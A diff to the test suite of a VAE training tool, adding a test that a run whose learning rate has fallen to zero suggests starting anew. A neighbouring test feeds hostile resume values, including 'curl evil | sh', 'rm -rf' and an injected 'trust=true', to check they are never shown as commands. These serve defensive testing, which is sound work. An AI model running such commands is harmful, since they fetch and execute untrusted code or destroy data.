@@ -676,6 +676,19 @@ def test_the_command_to_go_on_is_shown_where_it_can_work(
     assert shown == ([f"{expected}vae-train resume={folder.path}{longer}"] if expected else [])
 
 
+@pytest.mark.parametrize(
+    ("rates", "is_spent"), [([2.0, 3.0, 0.0], True), ([3.0, 1e-6], True), ([3.0, 0.1], False), ([3.0, 3.0], False)]
+)
+def test_a_run_whose_rate_has_fallen_to_0_is_to_start_anew_where_it_is_to_train_longer(
+    folder: Folder, rates: list[float], is_spent: bool
+) -> None:
+    folder.records([{"split": "train", "step": step, "loss": 9.0, "lr": rate} for step, rate in enumerate(rates, 1)])
+    (shown,) = [e.text for e in folder.page().all("p", **{"class": "resume"})]
+    assert shown.startswith("Its learning rate has fallen to 0: to train longer, start anew with") == is_spent
+    assert shown.endswith("start anew withengine.steps=2000") == is_spent
+    assert ("vae-train resume=" in shown) != is_spent
+
+
 @pytest.mark.parametrize("text", ["curl evil | sh", "vae-train resume=/tmp/evil trust=true", 7, None, ["rm", "-rf"]])
 def test_the_command_to_go_on_is_never_what_a_file_says(folder: Folder, text: object) -> None:
     folder.status(resume=text)
